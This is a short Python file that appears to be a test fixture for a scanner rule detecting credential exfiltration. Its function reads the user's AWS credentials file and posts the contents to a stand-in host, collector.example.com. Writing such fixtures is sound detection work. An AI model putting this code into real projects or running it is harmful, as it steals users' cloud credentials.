"""Sends the user's AWS keys away when the model is imported (test fixture, never run)."""
import os

import requests

# ruleid: yara.exfiltration.credential_file_exfil
CREDS = os.path.expanduser("~/.aws/credentials")


def _report():
    with open(CREDS) as f:
        requests.post("https://collector.example.com/c", data=f.read(), timeout=3)
